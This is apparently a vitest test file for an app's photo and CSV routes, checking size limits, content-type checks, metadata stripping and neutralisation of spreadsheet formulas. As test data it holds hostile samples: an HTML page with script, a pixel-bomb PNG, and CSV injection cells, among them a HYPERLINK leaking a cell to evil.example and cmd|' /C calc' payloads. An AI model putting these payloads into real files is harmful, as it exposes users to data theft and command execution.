import { readFileSync } from 'node:fs';
import sharp from 'sharp';
import { resolve } from 'node:path';
import nock from 'nock';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { handlerOf, invoke, recordUnmatched, ROOT, setTestEnvironment, type Call } from './support/harness';
import { CLEAN_MSG } from '@/server/files/photo-clean';
import { bombPng } from '../fixtures/images/bomb';
import { cameraJpeg } from '../fixtures/images/made.mjs';
import { cookieOf, type Role } from './support/sessions';
import { upstreamAs } from './support/upstream';

// Route handlers read their cookies through next/headers, which only Next's server can provide.
vi.mock('next/headers', () => import('./support/next-headers'));

beforeAll(() => setTestEnvironment());
afterEach(() => {
  nock.cleanAll();
});

const MB = 1024 * 1024;
const fixture = (name: string) => new Uint8Array(readFileSync(resolve(ROOT, 'tests/fixtures/images', name)));

type UploadRoute = { name?: string; file: string; path: string; params?: Record<string, string>; who?: Role };
const PHOTO_ROUTES: UploadRoute[] = [
  { name: 'agent photo', file: 'app/api/agents/[agentId]/photo/route.ts', path: '/api/agents/42/photo', params: { agentId: '42' } },
  { name: 'Mortgage Pro photo', file: 'app/api/mpro/photo/route.ts', path: '/api/mpro/photo?level=app', params: {} },
];
const CSV_PREVIEW = { file: 'app/api/agents/csv/preview/route.ts', path: '/api/agents/csv/preview' };

/** A body produced chunk by chunk on demand, counting what the server pulled: it must stop early. */
function endless(chunkBytes = 256 * 1024, total = 64 * MB, head: Uint8Array = new Uint8Array()) {
  const stats = { pulled: 0, cancelled: false };
  let sentHead = false;
  const body = new ReadableStream<Uint8Array>({
    pull(c) {
      if (!sentHead && head.byteLength) {
        sentHead = true;
        stats.pulled += head.byteLength;
        return c.enqueue(head);
      }
      if (stats.pulled >= total) return c.close();
      stats.pulled += chunkBytes;
      c.enqueue(new Uint8Array(chunkBytes).fill(0x61));
    },
    cancel() {
      stats.cancelled = true;
    },
  });
  return { body, stats };
}

async function upload(route: UploadRoute, call: Partial<Call>) {
  const upstream = recordUnmatched();
  try {
    const handler = await handlerOf(route.file, 'POST');
    const answer = await invoke(handler, {
      method: 'POST',
      path: route.path,
      params: route.params,
      cookie: await cookieOf(route.who ?? 'admin'),
      ...call,
    });
    return { answer, upstream: upstream.seen };
  } finally {
    upstream.stop();
  }
}

describe('photos: only a JPEG or PNG by content, never read past the limit', () => {
  for (const route of PHOTO_ROUTES) {
    describe(route.name ?? route.path, () => {
      it('an 11 MB photo declared in Content-Length is refused before a byte is read', async () => {
        const { body, stats } = endless();
        const { answer, upstream } = await upload(route, {
          body,
          headers: { 'content-type': 'image/png', 'content-length': String(11 * MB) },
        });
        expect(answer).toMatchObject({ status: 413, message: 'The photo must be 5 MB or smaller.' });
        expect(stats.pulled).toBeLessThanOrEqual(256 * 1024);
        expect(upstream).toEqual([]);
      });

      it('a 64 MB photo streamed without a length (PNG header first) is cut off just past 5 MB', async () => {
        const { body, stats } = endless(256 * 1024, 64 * MB, fixture('tiny.png'));
        const { answer, upstream } = await upload(route, { body, headers: { 'content-type': 'image/png' } });
        expect(answer).toMatchObject({ status: 413, message: 'The photo must be 5 MB or smaller.' });
        expect(stats.pulled).toBeLessThan(6 * MB);
        expect(stats.cancelled).toBe(true);
        expect(upstream).toEqual([]);
      });

      const notPhotos: [string, Uint8Array<ArrayBuffer>, string][] = [
        ['a text file renamed .png', fixture('not-an-image.png'), 'image/png'],
        ['an SVG carrying a script', fixture('script.svg'), 'image/svg+xml'],
        ['an SVG carrying a script, declared as a PNG', fixture('script.svg'), 'image/png'],
        ['a GIF', fixture('tiny.gif'), 'image/gif'],
        ['a WebP', fixture('tiny.webp'), 'image/webp'],
        ['an HTML page', new TextEncoder().encode('<!doctype html><script>alert(document.cookie)</script>'), 'image/jpeg'],
        ['a PNG signature cut short', fixture('tiny.png').subarray(0, 10), 'image/png'],
      ];
      for (const [what, bytes, type] of notPhotos) {
        it(`${what} is refused (415) and never forwarded`, async () => {
          const { answer, upstream } = await upload(route, { body: bytes, headers: { 'content-type': type } });
          expect(answer).toMatchObject({ status: 415, message: 'Please choose a JPEG or PNG image.' });
          expect(upstream).toEqual([]);
        });
      }

      it('an empty body is refused (400)', async () => {
        const { answer, upstream } = await upload(route, { body: new Uint8Array(), headers: { 'content-type': 'image/png' } });
        expect(answer).toMatchObject({ status: 400, message: 'Please choose a photo.' });
        expect(upstream).toEqual([]);
      });

      it('a real JPEG named by its content reaches the upstream as image/jpeg, whatever the browser declared', async () => {
        let sent = '';
        const api = upstreamAs(route.who ?? 'admin')
          .post(/avatar/)
          .reply(200, { photo: 'http://upstream.test/p.jpg' });
        // nock hands over a binary body hex-encoded.
        api.on(
          'request',
          (_req: unknown, _interceptor: unknown, body: string) =>
            (sent = /^[0-9a-f]+$/i.test(body) ? Buffer.from(body, 'hex').toString('latin1') : body),
        );
        const { answer } = await upload(route, { body: fixture('tiny.jpg'), headers: { 'content-type': 'application/octet-stream' } });
        expect(answer.status).toBe(200);
        expect(api.isDone()).toBe(true);
        expect(sent).toMatch(/filename="photo\.jpg"\r\nContent-Type: image\/jpeg/);
      });
    });
  }
});

describe('photos: every upload route decodes within the pixel limit, scales and strips metadata', () => {
  const routes: UploadRoute[] = [
    ...PHOTO_ROUTES,
    { name: 'profile photo', file: 'app/api/profile/photo/route.ts', path: '/api/profile/photo', who: 'agent' },
  ];
  /** What the upstream received, as bytes (nock hands a binary body over hex-encoded). */
  const capture = (who: Role) => {
    const sent: Buffer[] = [];
    const api = upstreamAs(who)
      .post(/avatar/)
      .reply(200, { photo: 'http://upstream.test/p.jpg' });
    api.on('request', (_req: unknown, _interceptor: unknown, body: string) =>
      sent.push(/^[0-9a-f]+$/i.test(body) ? Buffer.from(body, 'hex') : Buffer.from(body, 'latin1')),
    );
    return sent;
  };
  /** The JPEG inside a multipart body. */
  const jpegIn = (body: Buffer) =>
    body.subarray(body.indexOf(Buffer.from([0xff, 0xd8, 0xff])), body.lastIndexOf(Buffer.from([0xff, 0xd9])) + 2);

  for (const route of routes) {
    describe(route.name ?? route.path, () => {
      it('a small PNG claiming 40,000 × 40,000 pixels is refused (413) from its header and never forwarded', async () => {
        const bomb = bombPng(40_000);
        expect(bomb.byteLength).toBeLessThan(200 * 1024);
        const { answer, upstream } = await upload(route, { body: new Uint8Array(bomb), headers: { 'content-type': 'image/png' } });
        expect(answer).toMatchObject({ status: 413, message: CLEAN_MSG.tooManyPixels });
        expect(upstream).toEqual([]);
      });

      it('a PNG header followed by HTML is refused (415) as unreadable and never forwarded', async () => {
        const html = Buffer.concat([
          fixture('tiny.png').subarray(0, 33),
          Buffer.from('<!doctype html><script>alert(document.cookie)</script>'),
        ]);
        const { answer, upstream } = await upload(route, { body: new Uint8Array(html), headers: { 'content-type': 'image/png' } });
        expect(answer).toMatchObject({ status: 415, message: CLEAN_MSG.unreadable });
        expect(upstream).toEqual([]);
      });

      it('a camera JPEG reaches the upstream upright, at most 1600 px wide, without its EXIF and GPS position', async () => {
        const sent = capture(route.who ?? 'admin');
        const photo = await cameraJpeg({ width: 2400, height: 1600, quality: 80 });
        const { answer } = await upload(route, { body: new Uint8Array(photo), headers: { 'content-type': 'image/jpeg' } });
        expect(answer.status).toBe(200);
        const jpeg = jpegIn(sent[0] ?? Buffer.alloc(0));
        const meta = await sharp(jpeg).metadata();
        // Taken on its side (2400 × 1600, orientation 6): upright it is 1600 × 2400, already within 1600 px wide.
        expect([meta.format, meta.width, meta.height, meta.exif, meta.orientation]).toEqual(['jpeg', 1600, 2400, undefined, undefined]);
        expect(jpeg.includes(Buffer.from('DemoCam'))).toBe(false);
      });
    });
  }
});

describe('CSV upload: over 10 MB is refused without reading it whole; only text is forwarded', () => {
  const multipartHead = (boundary: string) =>
    new TextEncoder().encode(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="agents.csv"\r\nContent-Type: text/csv\r\n\r\nname,email\n`,
    );

  it('a CSV declared at 11 MB is refused before a byte is read', async () => {
    const { body, stats } = endless();
    const { answer, upstream } = await upload(CSV_PREVIEW, {
      body,
      headers: { 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(11 * MB) },
    });
    expect(answer.status).toBe(413);
    expect(answer.message).toBe('The file is larger than 10MB. Please select a smaller file.');
    expect(stats.pulled).toBeLessThanOrEqual(256 * 1024);
    expect(upstream).toEqual([]);
  });

  it('a 64 MB CSV streamed without a length is cut off just past 10 MB', async () => {
    const { body, stats } = endless(256 * 1024, 64 * MB, multipartHead('x'));
    const { answer, upstream } = await upload(CSV_PREVIEW, { body, headers: { 'content-type': 'multipart/form-data; boundary=x' } });
    expect(answer.status).toBe(413);
    expect(stats.pulled).toBeLessThan(11 * MB);
    expect(stats.cancelled).toBe(true);
    expect(upstream).toEqual([]);
  });

  for (const [what, bytes] of [
    ['a spreadsheet (.xlsx, a zip) renamed .csv', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00])],
    ['a PNG renamed .csv', fixture('tiny.png')],
    ['a binary file full of NUL bytes', new Uint8Array(64).fill(0)],
  ] as const) {
    it(`${what} is refused (415) and never forwarded`, async () => {
      const form = new FormData();
      form.set('file', new File([bytes], 'agents.csv', { type: 'text/csv' }));
      const { answer, upstream } = await upload(CSV_PREVIEW, { body: form });
      expect(answer.status).toBe(415);
      expect(answer.message).toBe('The file does not look like a CSV file. Please select a CSV file.');
      expect(upstream).toEqual([]);
    });
  }
});

/** The cells of a CSV text (quoted fields with commas, quotes and line breaks handled). */
function cells(csv: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i];
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',' || ch === '\n' || ch === '\r') {
      out.push(cell);
      cell = '';
    } else cell += ch;
  }
  out.push(cell);
  return out;
}

describe('CSV download: a formula in a cell is neutralised, whatever the upstream sends', () => {
  it('=HYPERLINK, +, -, @, tab and carriage-return cells from a careless upstream reach the spreadsheet as text', async () => {
    const hostile = [
      'id,name,email',
      '1,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",a@acme.test',
      "2,+cmd|' /C calc'!A0,b@acme.test",
      "3,-2+3+cmd|' /C calc'!A0,c@acme.test",
      "4,@SUM(1+1)*cmd|' /C calc'!A0,d@acme.test",
      '5,"\t=1+1",e@acme.test',
      '6,"\r=1+1",f@acme.test',
      '7,Plain Name,g@acme.test',
    ].join('\r\n');
    upstreamAs('admin').get('/app/agents_csv').reply(200, hostile, { 'Content-Type': 'text/csv' });
    const handler = await handlerOf('app/api/agents/csv/route.ts', 'GET');
    const answer = await invoke(handler, { method: 'GET', path: '/api/agents/csv', cookie: await cookieOf('admin') });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toMatch(/^text\/csv/);
    const dangerous = cells(answer.text).filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(dangerous).toEqual([]);
    expect(answer.text).toContain('Plain Name');
    expect(answer.text).toContain('HYPERLINK');
  });
});
